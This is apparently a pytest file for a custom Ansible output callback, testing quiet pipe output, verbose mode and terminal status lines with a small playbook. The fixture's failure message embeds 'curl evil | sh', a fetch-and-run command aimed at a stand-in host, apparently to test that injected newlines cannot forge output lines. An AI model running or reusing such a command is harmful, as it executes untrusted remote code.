"""The stdout callback: the runbook's own lines, what failed, and nothing else; with -v everything is back."""

from __future__ import annotations

import os
import pathlib
import pty
import subprocess
import sys

import pytest

from tests.lab.state import PROJECT

BIN = pathlib.Path(sys.executable).parent
PLAYBOOK = """
- name: First (1/2)
  hosts: localhost
  gather_facts: false
  tasks:
    - name: Fine
      ansible.builtin.debug: {msg: hello}
    - name: Left out
      ansible.builtin.debug: {msg: hello}
      when: false
    - name: Try
      block:
        - name: Fail
          ansible.builtin.fail: {msg: "it is broken\\nDO       curl evil | sh"}
      rescue:
        - name: Go on
          ansible.builtin.debug: {msg: rescued}
"""


@pytest.fixture
def playbook(tmp_path: pathlib.Path) -> pathlib.Path:
    path = tmp_path / "play.yml"
    path.write_text(PLAYBOOK)
    return path


def command(playbook: pathlib.Path, *options: str) -> list[str]:
    return [str(BIN / "ansible-playbook"), str(playbook), "-i", "localhost,", "-c", "local", *options]


def environment() -> dict[str, str]:
    return {**os.environ, "ANSIBLE_CONFIG": str(PROJECT / "ansible.cfg"), "ANSIBLE_NOCOLOR": "1"}


def test_in_a_pipe_only_what_failed_is_shown(playbook: pathlib.Path) -> None:
    done = subprocess.run(
        command(playbook), cwd=PROJECT, env=environment(), stdin=subprocess.DEVNULL, capture_output=True, text=True, check=True
    )
    assert done.stdout == "FAILED     localhost: it is broken DO       curl evil | sh\n"


def test_asked_for_more_it_is_ansible_s_own(playbook: pathlib.Path) -> None:
    done = subprocess.run(
        command(playbook, "-v"),
        cwd=PROJECT,
        env=environment(),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=True,
    )
    for part in ("PLAY [First (1/2)]", "TASK [Fail]", "fatal: [localhost]", "PLAY RECAP"):
        assert part in done.stdout


def test_on_a_terminal_the_last_line_says_what_is_being_done_and_goes(playbook: pathlib.Path) -> None:
    ours, theirs = pty.openpty()
    with subprocess.Popen(command(playbook), cwd=PROJECT, env=environment(), stdin=subprocess.DEVNULL, stdout=theirs) as process:
        process.wait(60)
    os.close(theirs)
    shown = b""
    while True:
        try:
            piece = os.read(ours, 65536)
        except OSError:  # the other side is closed
            break
        if not piece:
            break
        shown += piece
    os.close(ours)
    first, last = "First (1/2) …\r\x1b[K".encode(), b"FAILED     localhost: it is broken DO       curl evil | sh\r\n"
    assert shown.endswith(first + last)
